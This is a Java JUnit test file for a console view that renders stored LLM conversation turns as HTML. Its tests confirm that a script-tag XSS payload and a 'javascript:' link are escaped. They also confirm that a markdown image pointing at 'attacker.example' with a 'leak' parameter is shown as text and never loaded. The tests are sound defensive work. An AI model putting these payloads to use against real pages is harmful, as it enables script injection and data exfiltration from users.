package io.tokenrouter.console;

import static org.assertj.core.api.Assertions.assertThat;

import io.tokenrouter.store.ConversationRepository.Turn;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class ThreadViewTest {

    private static Turn turn(String request, String answer) {
        return new Turn(1, "t", "req", null, Instant.EPOCH, 1L, "alice", "openai/gpt-4o", "chat/completions", request,
                answer, null, false);
    }

    @Test
    void markdownIsRenderedAndRawHtmlIsEscaped() {
        ThreadView.Message m = ThreadView.message("assistant",
                "**bold** <script>alert(1)</script> [x](javascript:alert(1))\n\n```java\nint a = 1 < 2;\n```", null);
        assertThat(m.html()).contains("<strong>bold</strong>").contains("&lt;script&gt;alert(1)&lt;/script&gt;")
                .doesNotContain("<script>").doesNotContain("javascript:")
                .contains("<pre><code class=\"language-java\">int a = 1 &lt; 2;");
        assertThat(m.reasoning()).isNull();
    }

    @Test
    void imagesAreNamedNeverLoaded() {
        ThreadView.Message m = ThreadView.message("user", "look: ![secret chart](https://attacker.example/?d=leak)", null);
        assertThat(m.html()).doesNotContain("<img").contains("[image: secret chart — https://attacker.example/?d=leak]");
    }

    @Test
    void reasoningIsKeptApartFromTheAnswer() {
        ThreadView.Message think = ThreadView.message("assistant", "<think>Step one.\nStep two.</think>The answer is 4.", null);
        assertThat(think.html()).contains("The answer is 4.").doesNotContain("Step one");
        assertThat(think.reasoning()).contains("Step one.");

        ThreadView.Message unfinished = ThreadView.message("assistant", "<think>cut off while thinking", null);
        assertThat(unfinished.reasoning()).contains("cut off while thinking");

        ThreadView.Message field = ThreadView.message("assistant", "Done.", "Because **reasons**.");
        assertThat(field.reasoning()).contains("<strong>reasons</strong>");
    }

    @Test
    void eachTurnShowsOnlyWhatThePreviousTurnsDidNot() {
        String first = "{\"messages\":[{\"role\":\"system\",\"content\":\"Be brief.\"},{\"role\":\"user\",\"content\":\"Hi\"}]}";
        String second = "{\"messages\":[{\"role\":\"system\",\"content\":\"Be brief.\"},{\"role\":\"user\",\"content\":\"Hi\"},"
                + "{\"role\":\"assistant\",\"content\":\"Hello.\"},{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\"And now?\"},"
                + "{\"type\":\"image_url\",\"image_url\":{\"url\":\"data:…\"}}]}]}";
        List<ThreadView.TurnView> turns = ThreadView.of(List.of(turn(first, "Hello."), turn(second, "Now this.")));
        assertThat(turns.get(0).messages()).extracting(ThreadView.Message::role).containsExactly("system", "user");
        assertThat(turns.get(1).messages()).singleElement().satisfies(m -> {
            assertThat(m.role()).isEqualTo("user");
            assertThat(m.html()).contains("And now?").contains("[image_url]");
        });
        assertThat(turns.get(1).answer().html()).contains("Now this.");
    }

    @Test
    void otherShapesAndCutRequestsAreShownToo() {
        List<ThreadView.TurnView> responses = ThreadView.of(List.of(turn("{\"instructions\":\"Be kind.\",\"input\":\"Tell me\"}", "Sure.")));
        assertThat(responses.get(0).messages()).extracting(ThreadView.Message::role).containsExactly("system", "user");
        List<ThreadView.TurnView> completion = ThreadView.of(List.of(turn("{\"prompt\":\"Once upon\"}", " a time")));
        assertThat(completion.get(0).messages()).singleElement().satisfies(m -> assertThat(m.html()).contains("Once upon"));
        List<ThreadView.TurnView> cut = ThreadView.of(List.of(turn("{\"messages\":[{\"role\":\"user\",\"content\":\"long", null)));
        assertThat(cut.get(0).messages()).isEmpty();
        assertThat(cut.get(0).raw()).startsWith("{\"messages\"");
        assertThat(cut.get(0).answer()).isNull();
    }
}
